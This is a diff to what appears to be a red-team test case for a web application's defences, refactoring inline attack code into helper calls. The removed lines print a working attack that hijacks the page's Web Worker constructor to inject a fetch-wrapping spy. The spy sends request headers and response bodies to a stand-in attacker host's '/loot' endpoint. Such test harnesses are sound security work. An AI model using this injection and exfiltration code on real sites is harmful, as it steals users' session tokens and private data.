@@ -3,35 +3,17 @@
 export default {
   row: "patch-before",
   expected: ["wins", "loses"],
-  after: async ({ own, page, evil }) => {
-    const spy = (script, evil) => `
-      const own = self.fetch;
-      const home = (text) => own("${evil}/loot", { method: "POST", mode: "no-cors", body: text });
-      self.fetch = async (url, init) => {
-        home([...new Headers(init?.headers)].join());
-        const response = await own.call(self, url, init);
-        response.clone().text().then(home);
-        return response;
-      };
-      importScripts("${script}");`;
+  after: async ({ own, page }, redteam) => {
     const html = await (await fetch(own + page)).text();
-    const frame = document.createElement("iframe");
-    document.body.append(frame);
-    frame.contentDocument.open();
-    const { Worker } = frame.contentWindow;
-    frame.contentWindow.Worker = class extends Worker {
-      constructor(script, options) {
-        const blob = new Blob([spy(String(script), evil)], { type: "text/javascript" });
-        super(URL.createObjectURL(blob), options);
-      }
-    };
-    frame.contentDocument.write(html);
-    frame.contentDocument.close();
-    for (let i = 0; i < 200 && !frame.contentWindow.app?.done; i++) {
-      await new Promise((resolve) => setTimeout(resolve, 20));
-    }
-    await frame.contentWindow.app.call("/v1/me");
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    return frame.contentWindow.app.error ?? "opened";
+    const { contentDocument, contentWindow } = redteam.frame({});
+    contentDocument.open();
+    redteam.replaceWorker(contentWindow);
+    contentDocument.write(html);
+    contentDocument.close();
+    await redteam.until(() => contentWindow.app?.done);
+    const status = await contentWindow.app.call("/v1/me").then((response) => response.status, String);
+    await redteam.wait(300);
+    return { status, error: contentWindow.app.error };
   },
+  reached: ({ brought }) => brought.status === 200,
 };
